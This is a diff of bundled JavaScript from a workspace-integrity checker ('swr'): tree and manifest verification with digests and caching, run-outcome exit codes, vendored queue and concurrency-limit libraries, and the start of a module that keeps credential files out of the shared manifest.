+ * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
+ * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
+ */
+const NATIVE_MIN_FILES = 1000;
+/** More workers than this cost more to start than they save (the walk is bound by the disk). */
+const MAX_JOBS = 8;
+/** Whether the environment allows the native walk; a value other than 0 or 1 is refused (exit 4). */
+function nativeWalkAllowed(env) {
+    const v = env[NATIVE_WALK_VAR];
+    if (v === undefined || v === '' || v === '1')
+        return true;
+    if (v === '0')
+        return false;
+    throw new SwrError(`${NATIVE_WALK_VAR} must be 0 (no find) or 1 (the default)`, errors_EXIT.BAD_MANIFEST);
+}
+function jobsOf(jobs) {
+    return Math.min(jobs ?? external_node_os_default().availableParallelism(), MAX_JOBS);
+}
+/**
+ * The metadata digest or the cache stamp of a large tree without building per-entry records: from
+ * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers.
+ * Undefined when the tree is too small or flat for either (the caller walks it inline).
+ */
+async function digestTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    if (opts.native !== false) {
+        // find describes the top level too: only the listing is read here (no lstat per entry).
+        const top = listTop(root, ignore, exclude);
+        const dirs = top?.filter(t => t.dir).length ?? 0;
+        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
+            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
+                known: opts.known
+            });
+            if (r)
+                return r;
+        }
+    }
+    if (jobs < 2)
+        return undefined;
+    const split = splitTop(root, ignore, exclude);
+    return split && digestInWorkers(split, ignore, exclude, opts.kind, jobs);
+}
+/**
+ * The tree's records (and, with `hash`, its files' hashes and every digest) on every core when it
+ * splits into enough subtrees; small or flat trees are walked inline.
+ */
+async function walkTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
+    if (!split)
+        return walkTree(root, ignore, exclude);
+    return walkInWorkers(root, split, ignore, exclude, { hash: opts.hash, jobs });
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/tree.ts
+/**
+ * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
+ * content digest over every entry. Directories survive while being emptied, so presence says
+ * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
+ * and the index names what changed. Warm checks re-hash only files whose identity changed.
+ */
+
+
+
+
+
+
+
+
+async function verifyTree(e, ctx) {
+    const want = e.expect;
+    const recorded = {
+        type: 'directory',
+        ...(want.files !== undefined ? { files: want.files } : {}),
+        min_files: want.min_files,
+        ...(want.max_files !== undefined ? { max_files: want.max_files } : {}),
+        ...(want.meta_digest ? { meta: verifier_short(want.meta_digest) } : {})
+    };
+    const loc = locateAs(e, ctx, recorded, 'directory', st => st.isDirectory(), 'a directory');
+    if (isFinding(loc))
+        return loc;
+    const root = external_node_fs_default().realpathSync(loc.abs);
+    // A warm check computes only the stamp: when it equals the cached one, nothing changed since the
+    // cached digests were computed, so the metadata digest is taken from the cache too.
+    const cachedTree = ctx.metaOnly || !want.content_digest ? undefined : ctx.cache.tree(e.id);
+    const fast = await judgeFromDigest(e, ctx, root, cachedTree, recorded);
+    if (fast)
+        return fast;
+    // A cold content check hashes while it walks, on every core; other checks only walk.
+    const hash = !ctx.metaOnly && want.content_digest !== undefined && !cachedTree;
+    const walked = await walkTreeParallel(root, e.ignore, ctx.exclude, { jobs: ctx.jobs, hash });
+    const walk = lazyDigests(walked, () => cachedTree && walk.stamp === cachedTree.stamp ? cachedTree.metaDigest : undefined);
+    const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
+    const early = judgeStructure(e, ctx, root, walk, recorded, found);
+    if (ctx.metaOnly || !want.content_digest) {
+        return early?.finding ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
+    }
+    if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
+        return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
+    }
+    // Even when the structure already failed, hash the files: the report should name every file
+    // whose bytes changed, not only the ones that vanished.
+    return planContentHash(e, ctx, root, walk, recorded, found, early);
+}
+/**
+ * The fast path for large trees: workers digest the tree without building records (the metadata
+ * digest for --meta checks, the identity stamp for warm checks). When that shows the structure is
+ * as recorded (and, warm, that nothing changed since the cached content digest), the entry is
+ * judged from counts, sentinels and digests alone. Otherwise the caller walks the tree fully.
+ */
+async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
+    const want = e.expect;
+    const kind = ctx.metaOnly || !want.content_digest ? 'meta' : cachedTree ? 'stamp' : undefined;
+    if (!kind)
+        return undefined;
+    const known = kind === 'stamp' && cachedTree?.rawStamp
+        ? { raw: cachedTree.rawStamp, digest: cachedTree.stamp, files: cachedTree.files }
+        : undefined;
+    const r = await digestTreeParallel(root, e.ignore, ctx.exclude, {
+        jobs: ctx.jobs,
+        kind,
+        // find's lines are trusted only through a digest they must equal: with no recorded metadata
+        // digest a --meta check would judge from find's file count alone, so the Node walker counts.
+        native: ctx.nativeWalk !== false && (kind === 'stamp' || want.meta_digest !== undefined),
+        expectFiles: want.files ?? want.min_files,
+        ...(known ? { known } : {})
+    });
+    if (!r || r.unreadable.length > 0)
+        return undefined;
+    // The stamp matched through a full re-sort: remember find's raw bytes for the next warm check.
+    if (kind === 'stamp' &&
+        cachedTree &&
+        r.raw &&
+        r.digest === cachedTree.stamp &&
+        r.raw !== cachedTree.rawStamp)
+        ctx.cache.setTree(e.id, { ...cachedTree, rawStamp: r.raw });
+    const metaDigest = kind === 'meta' ? r.digest : r.digest === cachedTree?.stamp ? cachedTree.metaDigest : undefined;
+    if (metaDigest === undefined ||
+        (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
+        return undefined;
+    let full;
+    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
+    const walk = {
+        get records() {
+            return records().records;
+        },
+        files: r.files,
+        unreadable: [],
+        metaDigest,
+        get stamp() {
+            return stampOf(records().records);
+        }
+    };
+    const found = { type: 'directory', files: r.files, meta: verifier_short(metaDigest) };
+    if (judgeStructure(e, ctx, root, walk, recorded, found))
+        return undefined;
+    if (kind === 'meta')
+        return finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
+    return judgeContent(e, ctx, root, walk, cachedTree?.contentDigest ?? '', undefined, recorded, found, true);
+}
+/** The index diff with every name (and link target) escaped for the report. */
+function tree_diffIndex(recorded, now, nowExtra) {
+    const d = diffIndex(recorded, now, nowExtra);
+    const { missing, extra, changed, counts } = d.diff;
+    return {
+        ...d,
+        diff: {
+            missing: missing.map(shownName),
+            extra: extra.map(shownName),
+            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
+            counts
+        }
+    };
+}
+/**
+ * Fold the per-file content differences into a structural finding: the file list is replaced by
+ * one that also names content changes; sentinel and count problems stand as they were.
+ */
+function withContentDiff(early, e, ctx, walk, shas) {
+    const f = early.finding;
+    if (!f.files)
+        return f;
+    const index = ctx.readIndex(e.id, e.expect.index);
+    if (!index)
+        return f;
+    const d = tree_diffIndex(index, walk.records, shas);
+    // Only a content or target change adds anything: mode-only differences were already named.
+    if (!d.contentChanged)
+        return f;
+    const stripped = f.status === 'STRIPPED';
+    const kept = early.problems.filter(p => p.kind === 'sentinel' || p.kind === 'count');
+    return {
+        ...f,
+        status: stripped ? 'CORRUPT' : f.status,
+        reason: stripped ? 'content' : f.reason,
+        files: d.diff,
+        detail: [...kept.map(p => p.text), describeDiff(d.diff)].join('; ')
+    };
+}
+/** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
+function judgeStructure(e, ctx, root, walk, recorded, found) {
+    const want = e.expect;
+    if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
+        const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
+        return { finding: finding(e, 'EMPTY', 'empty', detail, recorded, found), problems: [] };
+    }
+    const problems = [];
+    const add = (kind, text) => problems.push({ kind, text });
+    for (const s of checkSentinels(root, want.sentinels))
+        add('sentinel', s);
+    if (walk.unreadable.length > 0) {
+        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
+        add('unreadable', `unreadable: ${shown.join(', ')}`);
+    }
+    if (walk.files < want.min_files)
+        add('count', `${num(walk.files)} files (want at least ${num(want.min_files)})`);
+    if (want.max_files !== undefined && walk.files > want.max_files)
+        add('count', `${num(walk.files)} files (want at most ${num(want.max_files)})`);
+    let files;
+    let execOnly = false;
+    if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
+        const index = ctx.readIndex(e.id, want.index);
+        if (index) {
+            const d = tree_diffIndex(index, walk.records);
+            files = d.diff;
+            execOnly = d.execLossOnly;
+            add('files', describeDiff(d.diff));
+        }
+        else {
+            add('digest', `metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
+        }
+    }
+    if (problems.length === 0)
+        return undefined;
+    const stripped = execOnly && problems.length === 1;
+    const sentinel = problems.some(p => p.kind === 'sentinel');
+    const reason = stripped ? 'exec' : sentinel ? 'sentinel' : files ? 'files' : 'count';
+    const detail = problems.map(p => p.text).join('; ');
+    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, detail, recorded, found);
+    return { finding: files ? { ...f, files } : f, problems };
+}
+function checkSentinels(root, sentinels) {
+    const out = [];
+    for (const s of sentinels) {
+        const loc = locateInside(root, s);
+        if (loc.state !== 'present')
+            out.push(`sentinel missing: ${s}`);
+        else if (loc.st.isFile() && loc.st.size === 0n)
+            out.push(`sentinel empty: ${s}`);
+    }
+    return out;
+}
+function describeDiff(d) {
+    const parts = [];
+    const list = (xs, total) => xs.slice(0, 3).join(', ') + (total > 3 ? `, ... (+${num(total - 3)})` : '');
+    if (d.counts.missing > 0)
+        parts.push(`${num(d.counts.missing)} missing: ${list(d.missing, d.counts.missing)}`);
+    if (d.counts.extra > 0)
+        parts.push(`${num(d.counts.extra)} extra: ${list(d.extra, d.counts.extra)}`);
+    if (d.counts.changed > 0) {
+        const shown = d.changed.map(c => `${c.path} (${c.what})`);
+        parts.push(`${num(d.counts.changed)} changed: ${list(shown, d.counts.changed)}`);
+    }
+    return parts.join('; ') || 'entries differ';
+}
+/** Hash what the per-file cache cannot vouch for, then judge the content digest. */
+function planContentHash(e, ctx, root, walk, recorded, found, early) {
+    const pre = walk.pre;
+    if (!early && pre?.content !== undefined && pre.cacheJson !== undefined && pre.failed === 0) {
+        // The workers hashed every file and wrote the digest lines: nothing is left but judging.
+        const { content, cacheJson } = pre;
+        return {
+            jobs: [],
+            judge: () => {
+                ctx.cache.setTreeFilesJson(e.id, cacheJson);
+                ctx.cache.setTree(e.id, {
+                    stamp: walk.stamp,
+                    metaDigest: walk.metaDigest,
+                    contentDigest: content,
+                    files: walk.files
+                });
+                const shas = content === e.expect.content_digest ? undefined : walkExtras(root, walk);
+                return judgeContent(e, ctx, root, walk, content, shas, recorded, found, false);
+            }
+        };
+    }
+    const known = ctx.cache.treeFiles(e.id);
+    const shas = linkTargets(root, walk.records);
+    const jobs = [];
+    const jobIndex = [];
+    walk.records.forEach((r, i) => {
+        if (r.type !== 'f')
+            return;
+        const pre = walk.shas?.[i];
+        if (pre !== undefined) {
+            shas[i] = pre;
+            return;
+        }
+        const hit = known.get(r.rel);
+        const key = `${ident(r)} ${r.size}`;
+        if (hit && hit.startsWith(key + ' '))
+            shas[i] = hit.slice(key.length + 1);
+        else {
+            jobs.push({ abs: `${root}/${r.rel}`, how: 'full', cost: r.size });
+            jobIndex.push(i);
+        }
+    });
+    return {
+        jobs,
+        judge: (results) => {
+            const unreadable = [];
+            results.forEach((res, k) => {
+                const i = jobIndex[k] ?? 0;
+                if ('error' in res)
+                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
+                else
+                    shas[i] = res.sha256;
+            });
+            const digest = contentDigest(walk.records, shas);
+            const files = new Map();
+            walk.records.forEach((r, i) => {
+                if (r.type === 'f' && shas[i])
+                    files.set(r.rel, cacheValue(r, shas[i]));
+            });
+            ctx.cache.setTreeFiles(e.id, files);
+            if (unreadable.length === 0) {
+                ctx.cache.setTree(e.id, {
+                    stamp: walk.stamp,
+                    metaDigest: walk.metaDigest,
+                    contentDigest: digest,
+                    files: walk.files
+                });
+            }
+            if (early)
+                return withContentDiff(early, e, ctx, walk, shas);
+            if (unreadable.length > 0) {
+                const detail = `unreadable files: ${unreadable.slice(0, 3).join(', ')}${unreadable.length > 3 ? ', ...' : ''}`;
+                return finding(e, 'CORRUPT', 'unreadable', detail, recorded, found);
+            }
+            return judgeContent(e, ctx, root, walk, digest, shas, recorded, found, jobs.length === 0);
+        }
+    };
+}
+function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached) {
+    if (digest === e.expect.content_digest) {
+        return finding(e, 'OK', 'ok', okDetail(e, walk, true), recorded, found, cached);
+    }
+    const index = ctx.readIndex(e.id, e.expect.index);
+    let files;
+    let detail = `content digest ${verifier_short(digest)} (want ${verifier_short(e.expect.content_digest ?? '')}): same names, sizes and modes, different bytes`;
+    if (index) {
+        const extra = shas ?? contentExtras(root, walk);
+        files = tree_diffIndex(index, walk.records, extra).diff;
+        detail = describeDiff(files);
+    }
+    const f = finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, content: verifier_short(digest) }, cached);
+    return files ? { ...f, files } : f;
+}
+/** Link targets and the hashes the walk made, by record index (for a diff). */
+function walkExtras(root, walk) {
+    const extras = linkTargets(root, walk.records);
+    const shas = walk.shas ?? [];
+    walk.records.forEach((r, i) => {
+        if (r.type === 'f')
+            extras[i] = shas[i];
+    });
+    return extras;
+}
+/** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
+function contentExtras(root, walk) {
+    const extras = linkTargets(root, walk.records);
+    walk.records.forEach((r, i) => {
+        if (r.type !== 'f')
+            return;
+        try {
+            extras[i] = hashFile(`${root}/${r.rel}`).sha256;
+        }
+        catch {
+            extras[i] = undefined;
+        }
+    });
+    return extras;
+}
+function okDetail(e, walk, content) {
+    const what = content
+        ? 'content digest matches'
+        : e.expect.meta_digest
+            ? 'metadata digest matches'
+            : 'loose: sentinels and count only';
+    return `${num(walk.files)} files, ${e.expect.sentinels.length} sentinels, ${what}`;
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/index.ts
+/**
+ * Checking a manifest: each entry's verifier inspects it, all requested hashing runs through one
+ * pool (largest first, across entries), then each verifier judges its results. Read-only: nothing
+ * is run and nothing in the workspace is written.
+ */
+
+
+
+
+
+
+function inspect(e, ctx) {
+    switch (e.kind) {
+        case 'file':
+            return verifyFile(e, ctx);
+        case 'blob':
+            return verifyBlob(e, ctx);
+        case 'tree':
+            return verifyTree(e, ctx);
+        case 'link':
+            return verifyLink(e, ctx);
+    }
+}
+/**
+ * Verify `entries` in manifest order; findings come back in the same order. Files and blobs are
+ * inspected first and their hashing starts at once, so it runs while the trees are walked (a
+ * 500 MiB blob then hashes on one core while a cold tree walk hashes on the others, instead of
+ * after it); what the tree inspections still need hashed goes through the pool afterwards.
+ */
+async function verifyEntries(entries, ctx, pool = {}) {
+    const inspected = new Array(entries.length);
+    entries.forEach((e, i) => {
+        if (e.kind !== 'tree')
+            inspected[i] = inspect(e, ctx);
+    });
+    const early = inspected.filter(isPending);
+    const earlyJobs = early.flatMap(p => p.jobs);
+    // One worker per big file at most: the small ones follow on the same workers, and the cores
+    // are wanted by the tree walks meanwhile.
+    const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
+    const earlyHashed = earlyJobs.length > 0
+        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
+        : Promise.resolve([]);
+    // Not left unhandled while the trees are walked: it is awaited below.
+    earlyHashed.catch(() => undefined);
+    for (const [i, e] of entries.entries())
+        if (e.kind === 'tree')
+            inspected[i] = await inspect(e, ctx);
+    const late = inspected.filter(p => isPending(p) && !early.includes(p));
+    const lateJobs = late.flatMap(p => p.jobs);
+    const results = [
+        ...(await earlyHashed),
+        ...(lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [])
+    ];
+    let offset = 0;
+    const judged = new Map();
+    for (const p of [...early, ...late]) {
+        judged.set(p, p.judge(results.slice(offset, offset + p.jobs.length)));
+        offset += p.jobs.length;
+    }
+    ctx.cache.flush();
+    return inspected.map(i => (isPending(i) ? judged.get(i) : i));
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/selection.ts
+/**
+ * Checking a selection of entries: select them, verify them through one hash pool and the
+ * incremental cache, and make the report of what was found. Read-only: no recipe, smoke command or ldd runs, and nothing in the
+ * workspace is written (the cache lives in the private state directory).
+ */
+
+
+
+
+
+
+
+
+
+/** The entries `only` names, in manifest order; an unknown id is a usage error. */
+function selectEntries(entries, only) {
+    if (!only || only.length === 0)
+        return [...entries];
+    const known = new Set(entries.map(e => e.id));
+    const unknown = only.filter(id => !known.has(id));
+    if (unknown.length > 0)
+        throw new UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
+    const wanted = new Set(only);
+    return entries.filter(e => wanted.has(e.id));
+}
+function entryDigests(entries) {
+    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
+}
+/** The verification context for `entries` of `m`: cache, exclusions, index reader. */
+function verifyContext(m, entries, opts) {
+    return {
+        workspace: m.workspace,
+        jobs: opts.jobs,
+        deep: opts.deep === true,
+        metaOnly: opts.metaOnly === true,
+        cache: openCache({
+            stateDir: opts.stateDir,
+            manifestFile: m.file,
+            entryDigests: entryDigests(entries),
+            read: opts.cache !== false
+        }),
+        exclude: ownPaths(m.file, opts.stateDir),
+        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref),
+        nativeWalk: opts.nativeWalk
+    };
+}
+/** Verify the selected entries (those in `known` are taken as given), in manifest order. */
+async function verifySelection(m, opts) {
+    const started = new Date();
+    const t0 = performance.now();
+    const entries = selectEntries(m.body.entries, opts.only);
+    const known = opts.known ?? new Map();
+    const todo = entries.filter(e => !known.has(e.id));
+    const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
+        jobs: opts.jobs,
+        onProgress: opts.onProgress
+    });
+    const byId = new Map(fresh.map(f => [f.id, f]));
+    const findings = entries.flatMap(e => {
+        const f = known.get(e.id) ?? byId.get(e.id);
+        return f ? [f] : [];
+    });
+    return {
+        findings,
+        options: {
+            deep: opts.deep === true,
+            meta_only: opts.metaOnly === true,
+            cache: opts.cache !== false,
+            only: opts.only ?? []
+        },
+        started,
+        ms: performance.now() - t0
+    };
+}
+/** The report of `checked`, the one place a check's findings become a report. */
+function reportOf(m, checked, opts) {
+    return buildReport({
+        command: opts.command ?? 'check',
+        version: opts.version,
+        manifest: m,
+        findings: checked.findings,
+        options: checked.options,
+        started: checked.started,
+        ms: checked.ms,
+        ...(opts.fixCommand ? { fixCommand: opts.fixCommand } : {})
+    });
+}
+async function checkManifest(m, opts) {
+    return reportOf(m, await verifySelection(m, opts), opts);
+}
+/** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
+function scratchVerifier(m, opts) {
+    return (root, entries) => reverifier({ ...m, workspace: root }, opts)(entries);
+}
+/** Verify `entries` afresh (no cached hashes), as repair does after each step. */
+function reverifier(m, opts) {
+    return entries => verifyEntries(entries, verifyContext(m, entries, { ...opts, cache: false }), {
+        jobs: opts.jobs
+    });
+}
+/**
+ * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
+ * directory; a tree at "." holds the manifest): never part of what a tree is judged by. Parent
+ * directories that hold nothing but the state directory (~/.local/state made for it) go too.
+ */
+function ownPaths(manifestFile, stateDir) {
+    const real = (p) => {
+        try {
+            return external_node_fs_default().realpathSync(p);
+        }
+        catch {
+            return external_node_path_default().resolve(p);
+        }
+    };
+    const dir = real(external_node_path_default().dirname(manifestFile));
+    const state = real(stateDir);
+    const out = new Set([state, external_node_path_default().join(dir, external_node_path_default().basename(manifestFile)), external_node_path_default().join(dir, 'trees')]);
+    if (external_node_path_default().basename(dir) === '.swr')
+        out.add(dir);
+    for (let child = state, parent = external_node_path_default().dirname(state); parent !== child; child = parent, parent = external_node_path_default().dirname(parent)) {
+        let names;
+        try {
+            names = external_node_fs_default().readdirSync(parent);
+        }
+        catch {
+            break;
+        }
+        if (names.length !== 1 || names[0] !== external_node_path_default().basename(child))
+            break;
+        out.add(parent);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/check.ts
+/**
+ * `check` as a use case: verify the selection, run the smoke commands when asked and the
+ * signatures allow, look up saved states in the cache when asked, and make the report once from
+ * all of it. Nothing in the workspace is written; smoke commands are the only code that may run.
+ */
+
+
+
+
+async function check(m, opts) {
+    const checked = await verifySelection(m, opts);
+    let gate;
+    let smoke;
+    if (opts.smoke) {
+        gate = await decide(gateInput(m), opts.smoke.policy);
+        const smoked = await runSmokes(m, checked.findings, gate, opts.smoke.callerEnv, opts.smoke.abort);
+        checked.findings = smoked.findings;
+        checked.ms = Date.now() - checked.started.getTime();
+        smoke = smoked.smoke;
+    }
+    let lookup;
+    if (opts.cacheLookup)
+        lookup = await lookupSavedStates(m, selectEntries(m.body.entries, opts.only), opts.cacheLookup);
+    const report = reportOf(m, checked, opts);
+    return {
+        kind: 'check',
+        report: {
+            ...report,
+            ...(smoke ? { smoke } : {}),
+            ...(lookup ? { cache_lookup: lookup } : {})
+        },
+        ...(gate ? { gate } : {})
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/outcome.ts
+/**
+ * The one place a result becomes a status and an exit code. The CLI exits with `exitCode`; the
+ * Action publishes `status` as an output and `exitCode` beside it. Both shells call `outcomeOf`
+ * (or `outcomeOfError` for a run that stopped with a one-line error), so `swr doctor` and
+ * `command: doctor` can never disagree about what a run means.
+ */
+
+/** What a run means, as the Action's `status` output spells it. */
+const RUN_STATUSES = (/* unused pure expression or super */ null && ([
+    'healthy',
+    'repaired',
+    'damaged',
+    'unrepairable',
+    'refused',
+    'invalid',
+    'error'
+]));
+const REPAIR = {
+    healthy: { status: 'healthy', exitCode: errors_EXIT.HEALTHY },
+    repaired: { status: 'repaired', exitCode: errors_EXIT.HEALTHY },
+    damaged: { status: 'damaged', exitCode: errors_EXIT.DAMAGED },
+    refused: { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE },
+    unrepairable: { status: 'unrepairable', exitCode: errors_EXIT.UNREPAIRABLE },
+    'still-damaged': { status: 'unrepairable', exitCode: errors_EXIT.STILL_DAMAGED },
+    // Nothing was decided about the workspace: it is as damaged as it was found.
+    interrupted: { status: 'damaged', exitCode: errors_EXIT.INTERRUPTED }
+};
+function repairOutcome(outcome) {
+    return REPAIR[outcome];
+}
+function outcomeOf(result) {
+    switch (result.kind) {
+        case 'repair':
+            return REPAIR[result.report.repair.outcome];
+        case 'signatures':
+            return result.gate.allowed
+                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
+                : { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
+        case 'check':
+            // Smoke commands the signatures did not allow: the check could not say what was asked.
+            if (result.gate && !result.gate.allowed)
+                return { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
+            return result.report.verdict === 'healthy'
+                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
+                : { status: 'damaged', exitCode: errors_EXIT.DAMAGED };
+    }
+}
+/**
+ * A run that stopped with a one-line error: `invalid` for a bad manifest or input (exit 4),
+ * `refused` when swr declined to go on (exit 2), `error` when it could not finish (a write failed,
+ * another writer interfered, an interrupt, a bug).
+ */
+function outcomeOfError(exitCode) {
+    if (exitCode === EXIT.BAD_MANIFEST)
+        return { status: 'invalid', exitCode };
+    if (exitCode === EXIT.UNREPAIRABLE)
+        return { status: 'refused', exitCode };
+    return { status: 'error', exitCode };
+}
+
+;// CONCATENATED MODULE: ./node_modules/yocto-queue/index.js
+/*
+How it works:
+`this.#head` is an instance of `Node` which keeps track of its current value and nests another instance of `Node` that keeps the value that comes after it. When a value is provided to `.enqueue()`, the code needs to iterate through `this.#head`, going deeper and deeper to find the last value. However, iterating through every single item is slow. This problem is solved by saving a reference to the last value as `this.#tail` so that it can reference it to add a new value.
+*/
+
+class Node {
+	value;
+	next;
+
+	constructor(value) {
+		this.value = value;
+	}
+}
+
+class Queue {
+	#head;
+	#tail;
+	#size;
+
+	constructor() {
+		this.clear();
+	}
+
+	enqueue(value) {
+		const node = new Node(value);
+
+		if (this.#head) {
+			this.#tail.next = node;
+			this.#tail = node;
+		} else {
+			this.#head = node;
+			this.#tail = node;
+		}
+
+		this.#size++;
+	}
+
+	dequeue() {
+		const current = this.#head;
+		if (!current) {
+			return;
+		}
+
+		this.#head = this.#head.next;
+		this.#size--;
+
+		// Clean up tail reference when queue becomes empty
+		if (!this.#head) {
+			this.#tail = undefined;
+		}
+
+		return current.value;
+	}
+
+	peek() {
+		if (!this.#head) {
+			return;
+		}
+
+		return this.#head.value;
+
+		// TODO: Node.js 18.
+		// return this.#head?.value;
+	}
+
+	clear() {
+		this.#head = undefined;
+		this.#tail = undefined;
+		this.#size = 0;
+	}
+
+	get size() {
+		return this.#size;
+	}
+
+	* [Symbol.iterator]() {
+		let current = this.#head;
+
+		while (current) {
+			yield current.value;
+			current = current.next;
+		}
+	}
+
+	* drain() {
+		while (this.#head) {
+			yield this.dequeue();
+		}
+	}
+}
+
+;// CONCATENATED MODULE: ./node_modules/p-limit/index.js
+
+
+function pLimit(concurrency) {
+	let rejectOnClear = false;
+
+	if (typeof concurrency === 'object') {
+		({concurrency, rejectOnClear = false} = concurrency);
+	}
+
+	validateConcurrency(concurrency);
+
+	if (typeof rejectOnClear !== 'boolean') {
+		throw new TypeError('Expected `rejectOnClear` to be a boolean');
+	}
+
+	const queue = new Queue();
+	let activeCount = 0;
+
+	const resumeNext = () => {
+		// Process the next queued function if we're under the concurrency limit
+		if (activeCount < concurrency && queue.size > 0) {
+			activeCount++;
+			queue.dequeue().run();
+		}
+	};
+
+	const next = () => {
+		activeCount--;
+		resumeNext();
+	};
+
+	const run = async (function_, resolve, arguments_) => {
+		// Execute the function and capture the result promise
+		const result = (async () => function_(...arguments_))();
+
+		// Resolve immediately with the promise (don't wait for completion)
+		resolve(result);
+
+		// Wait for the function to complete (success or failure)
+		// We catch errors here to prevent unhandled rejections,
+		// but the original promise rejection is preserved for the caller
+		try {
+			await result;
+		} catch {}
+
+		// Decrement active count and process next queued function
+		next();
+	};
+
+	const enqueue = (function_, resolve, reject, arguments_) => {
+		const queueItem = {reject};
+
+		// Queue the internal resolve function instead of the run function
+		// to preserve the asynchronous execution context.
+		new Promise(internalResolve => { // eslint-disable-line promise/param-names
+			queueItem.run = internalResolve;
+			queue.enqueue(queueItem);
+		}).then(run.bind(undefined, function_, resolve, arguments_)); // eslint-disable-line promise/prefer-await-to-then
+
+		// Start processing immediately if we haven't reached the concurrency limit
+		if (activeCount < concurrency) {
+			resumeNext();
+		}
+	};
+
+	const generator = (function_, ...arguments_) => new Promise((resolve, reject) => {
+		enqueue(function_, resolve, reject, arguments_);
+	});
+
+	Object.defineProperties(generator, {
+		activeCount: {
+			get: () => activeCount,
+		},
+		pendingCount: {
+			get: () => queue.size,
+		},
+		clearQueue: {
+			value() {
+				if (!rejectOnClear) {
+					queue.clear();
+					return;
+				}
+
+				const abortError = AbortSignal.abort().reason;
+
+				while (queue.size > 0) {
+					queue.dequeue().reject(abortError);
+				}
+			},
+		},
+		concurrency: {
+			get: () => concurrency,
+
+			set(newConcurrency) {
+				validateConcurrency(newConcurrency);
+				concurrency = newConcurrency;
+
+				queueMicrotask(() => {
+					// eslint-disable-next-line no-unmodified-loop-condition
+					while (activeCount < concurrency && queue.size > 0) {
+						resumeNext();
+					}
+				});
+			},
+		},
+		map: {
+			async value(iterable, function_) {
+				const promises = [];
+
+				try {
+					Array.from(iterable, (value, index) => {
+						const promise = generator(function_, value, index);
+						promises.push(promise);
+						return promise;
+					});
+				} catch (error) {
+					// The iterable threw, so `Promise.all` never observes the already scheduled promises. Observe them here to avoid unhandled rejections.
+					for (const promise of promises) {
+						promise.catch(() => {}); // eslint-disable-line promise/prefer-await-to-then
+					}
+
+					throw error;
+				}
+
+				return Promise.all(promises);
+			},
+		},
+	});
+
+	return generator;
+}
+
+function limitFunction(function_, options) {
+	const limit = pLimit(options);
+
+	const limitedFunction = (...arguments_) => limit(() => function_(...arguments_));
+	Object.defineProperty(limitedFunction, 'clearQueue', {
+		value: limit.clearQueue,
+	});
+
+	return limitedFunction;
+}
+
+function validateConcurrency(concurrency) {
+	if (!((Number.isInteger(concurrency) || concurrency === Number.POSITIVE_INFINITY) && concurrency > 0)) {
+		throw new TypeError('Expected `concurrency` to be a number from 1 and up');
+	}
+}
+
+;// CONCATENATED MODULE: ./src/core/secrets.ts
+/**
+ * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
+ * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
+ * committed, pushed and shared, and a manifest is not a vault.
+ *
+ * A file is a secret by where it is (swr's own state directory: its HMAC key, ML-DSA and sync
+ * seeds), by name (well-known credential locations: ssh keys, netrc, the logins of git, gh, npm,
+ * PyPI, cargo, cloud CLIs and coding agents, dotenv and direnv files, `*.pem`, `*.key`), or by
+ * content: a PEM, OpenSSH or PGP private-key header, or one of the token shapes the recipe-output
+ * scrubber masks. Content is judged on the file's first SNIFF_BYTES only, so classifying a large
+ * file costs one bounded read. The name rule also holds for entries added by hand, and escrow
+ * consults the whole rule for every file it is asked to embed.
+ */
+
+
+
+
+/** The note a secret's entry carries when it was added without one. */
